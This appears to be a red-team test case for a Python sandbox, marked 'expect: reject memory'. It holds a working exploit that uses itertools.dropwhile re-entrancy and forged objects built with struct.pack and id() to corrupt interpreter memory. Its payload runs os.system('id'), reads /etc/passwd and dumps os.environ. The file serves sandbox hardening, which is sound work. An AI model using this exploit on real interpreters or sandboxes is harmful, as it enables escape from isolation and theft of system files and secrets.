# expect: reject memory
# line: 29
# why: round 88 (the red team's): iter(itertools.dropwhile(gate, items).__next__, None); gate re-enters the iterator, whose exhaustion drops the callable while it runs and frees the filter under its own __next__ (verified: id, /etc/passwd, os.environ under 3.11.2)
import itertools
import struct


def gate(x):
    if type(x) is dict:
        x["exec"]("import os; os.system('id'); print(open('/etc/passwd').read()[:200]); print(os.environ); os._exit(0)")
    if box["depth"] == 0:
        box["depth"] = 1
        next(box["it"], None)
        z = box["p1"][0] + box["p1"][1]
        b = box["p2"][0] + box["p2"][1]
        box["keep"] = [z, b]
    return True


box = {"depth": 0, "it": None, "keep": None}
items = [7]
fake_list = struct.pack("<QQQQ", 1, id(list), 1, id(gate) + 24)
box["fl"] = fake_list
box["p1"] = (struct.pack("<Q", id(gate)), struct.pack("<Q", 0)[:7])
box["p2"] = (struct.pack("<Q", 0), struct.pack("<Q", id(fake_list) + 32)[:7])


def build():
    box["it"] = iter(itertools.dropwhile(gate, items).__next__, None)


build()
print(next(box["it"]))
